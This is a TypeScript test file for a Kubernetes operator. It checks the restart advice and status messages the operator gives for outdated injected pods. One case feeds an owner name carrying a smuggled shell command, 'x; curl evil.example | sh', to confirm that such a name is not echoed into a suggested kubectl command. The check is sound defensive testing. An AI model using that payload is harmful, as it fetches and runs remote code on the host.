import { expect, test } from "vitest";
import { findings, brief, condition } from "../../test/fakes/findings.ts";
import type { Pod } from "../watch/pod.ts";
import { injectedFindings } from "./injected-words.ts";
import { statusOf, type Findings } from "./status.ts";

const owner = (kind: string, name: string) => ({ kind, name, uid: name, controller: true });

interface Words {
  readonly shape?: string;
  readonly owner?: ReturnType<typeof owner>;
  readonly hash?: string;
  readonly hooks?: string;
  readonly phase?: string;
}

const podOf = (name: string, { shape = "old", owner: by, hash, hooks = "", phase = "Running" }: Words = {}): Pod => ({
  metadata: {
    name,
    namespace: "demo",
    uid: name,
    labels: hash === undefined ? {} : { "pod-template-hash": hash },
    annotations: { "wsproxy.dev/shape": shape, "wsproxy.dev/own-prestop": hooks },
    ...(by === undefined ? {} : { ownerReferences: [by] }),
  },
  adminPort: 9090,
  status: { phase },
});

test("pods with another shape than pods get now are counted; those at their end are not", () => {
  const pods = [podOf("a", { shape: "new" }), podOf("b"), podOf("c", { phase: "Succeeded" })];
  expect(injectedFindings(pods, "new").outdated).toBe(1);
  expect(injectedFindings(pods, undefined)).toEqual({ outdated: undefined, remarks: [] });
  expect(injectedFindings([podOf("a", { shape: "new" })], "new")).toEqual({ outdated: 0, remarks: [] });
});

test.each<[what: string, pod: Words, words: string]>([
  [
    "a ReplicaSet of a Deployment",
    { owner: owner("ReplicaSet", "shop-5d4f"), hash: "5d4f" },
    "kubectl rollout restart --namespace demo deployment/shop restarts them.",
  ],
  [
    "a StatefulSet",
    { owner: owner("StatefulSet", "db") },
    "kubectl rollout restart --namespace demo statefulset/db restarts them.",
  ],
  [
    "a DaemonSet",
    { owner: owner("DaemonSet", "edge") },
    "kubectl rollout restart --namespace demo daemonset/edge restarts them.",
  ],
  ["a Job", { owner: owner("Job", "nightly") }, "Pods of Jobs go when they end."],
  ["no controller", {}, "Delete pods without a controller, and create them anew."],
  [
    "a ReplicaSet of another controller",
    { owner: owner("ReplicaSet", "shop-5d4f") },
    "Delete pods of other controllers: these make new ones.",
  ],
  [
    "a ReplicaSet with a name that no Deployment gives",
    { owner: owner("ReplicaSet", "shop"), hash: "5d4f" },
    "Delete pods of other controllers: these make new ones.",
  ],
  [
    "a kind that every JavaScript object has",
    { owner: owner("constructor", "x") },
    "Delete pods of other controllers: these make new ones.",
  ],
  [
    "a name that is a command",
    { owner: owner("StatefulSet", "x; curl evil.example | sh") },
    "Delete pods of other controllers: these make new ones.",
  ],
])("for an outdated pod of %s the words say how it is replaced", (_, pod, words) => {
  expect(injectedFindings([podOf("a", pod)], "new").remarks).toEqual([
    `With a container of an older shape: a. ${words}`,
  ]);
});

test("one command names three owners, and one sentence five pods", () => {
  const pods = Array.from({ length: 30 }, (_, at) =>
    podOf(`pod-${10 + at}`, { owner: owner("StatefulSet", `db-${at % 5}`) }),
  );
  expect(injectedFindings(pods, "new").remarks).toEqual([
    "With a container of an older shape: pod-10, pod-11, pod-12, pod-13, pod-14 and 25 more. kubectl rollout restart --namespace demo statefulset/db-0 statefulset/db-1 statefulset/db-2 restarts them, and 2 more owners are to be restarted.",
  ]);
});

test("containers with a preStop hook of their own are named once, with what that costs", () => {
  const pods = [podOf("a", { shape: "new", hooks: "app" }), podOf("b", { shape: "new", hooks: "app,worker" })];
  const [words = ""] = injectedFindings(pods, "new").remarks;
  expect(words).toMatch(/^With a preStop hook of their own: containers app, worker\. When a pod stops, /);
  expect(words).toMatch(/end at once, with 1012, and not spread over the drain period\.$/);
});

const { pods: READY } = findings();
const INJECTED: Partial<Findings> = {
  injected: { outdated: 1, remarks: ["With a container of an older shape: one."] },
  address: undefined,
};

test.each<[what: string, parts: Partial<Findings>, programmed: string, ready: string, words: string]>([
  [
    "all serve",
    {},
    "True Programmed",
    "True Ready",
    "Every injected pod serves this generation. With a container of an older shape: one.",
  ],
  [
    "there is none",
    {
      pods: { ...READY, pods: 0, ready: [] },
      injected: { outdated: 0, remarks: [] },
      rollout: { ...findings().rollout, wanted: 0, done: 0 },
    },
    "True Programmed",
    "False NoReadyPods",
    "Every injected pod serves this generation. No pod has the data plane yet.",
  ],
  [
    "one is behind and none ready",
    {
      pods: { ...READY, ready: [], silent: ["two"] },
      rollout: { ...findings().rollout, state: "Rolling", done: 0, behind: ["one", "two"] },
      injected: { outdated: 0, remarks: [] },
    },
    "False RollingOut",
    "False NoReadyPods",
    "Not every injected pod serves this generation yet. 0 of 2 pods so far. Without the newest config: one. The operator gets no answer from the admin port of: two.",
  ],
  [
    "an outdated one refuses the config",
    { pods: { ...READY, refusing: [{ pod: "one", stage: "config", problems: ["no"] }] } },
    "False ConfigRejected",
    "True Ready",
    "The data plane refused the config and keeps the last good one. Pod one: no. With a container of an older shape: one.",
  ],
])("of injected pods, if %s, the status says so", (_, parts, programmed, ready, words) => {
  const status = statusOf(findings({ ...INJECTED, ...parts }), undefined, 0);
  expect([brief(status, "Programmed"), brief(status, "Ready")]).toEqual([programmed, ready]);
  expect(condition(status, "Programmed")?.message).toBe(words);
  expect(status.address).toBeUndefined();
});
